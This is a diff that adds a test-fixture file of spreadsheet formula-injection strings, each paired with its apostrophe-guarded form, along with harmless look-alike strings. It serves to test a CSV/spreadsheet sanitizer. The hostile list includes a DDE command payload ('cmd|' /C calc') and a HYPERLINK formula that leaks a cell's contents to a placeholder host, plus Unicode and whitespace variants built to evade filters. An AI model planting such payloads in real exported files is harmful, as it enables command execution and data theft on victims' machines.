@@ -1,0 +1,57 @@
+/**
+ * Texts that a spreadsheet would run, each with what leaves in its place. Full-width characters are
+ * written as escapes so that no editor folds them.
+ */
+export const hostileTexts: readonly (readonly [text: string, guarded: string])[] = [
+  ["=1+1", "'=1+1"],
+  ["@SUM(A1)", "'@SUM(A1)"],
+  ["+1+1", "'+1+1"],
+  ["-1-1", "'-1-1"],
+  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+  ['=HYPERLINK("http://x.test?"&A1,"press")', `'=HYPERLINK("http://x.test?"&A1,"press")`],
+  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+  ["+19\u9879", "'+19\u9879"],
+  ["-", "'-"],
+  ["\uFF1D1+1", "'\uFF1D1+1"],
+  ["\uFF0B1+1", "'\uFF0B1+1"],
+  ["\uFF0D1+A1", "'\uFF0D1+A1"],
+  ["\uFF20SUM(A1)", "'\uFF20SUM(A1)"],
+  ["\uFE661", "'\uFE661"],
+  ["  =1", "'  =1"],
+  ["\u3000=1", "'\u3000=1"],
+  ["\u00A0=1", "'\u00A0=1"],
+  ["\uFEFF=1", "'\uFEFF=1"],
+  ["\u200B=1", "'\u200B=1"],
+  ["\u0000=1", "'\u0000=1"],
+  ["\ttab", "'\ttab"],
+  ["\rreturn", "'\rreturn"],
+  ["\r=1", "'\r'=1"],
+  ["first\n=1+1", "first\n'=1+1"],
+  ["first\r\n@A1\nlast", "first\r\n'@A1\nlast"],
+  ["first\u2028=1", "first\u2028'=1"],
+  ["'=1", "''=1"],
+  ["''\uFF1D1", "'''\uFF1D1"],
+];
+
+/** Texts that look odd and are none of a spreadsheet's business. */
+export const harmlessTexts: readonly string[] = [
+  "",
+  "-87.98",
+  "-87.98%",
+  "+14%",
+  "+14\uFF05",
+  "-1,234,567.5",
+  "+0",
+  "\uFF0D5%",
+  "1+N",
+  "a=b",
+  "\u2014\u2014",
+  "'",
+  "'tis",
+  "'-5",
+  "\u2212\u4E94",
+  "first\nsecond",
+  "\nblank line above",
+  'say "yes"',
+  "a,b;c\td",
+];
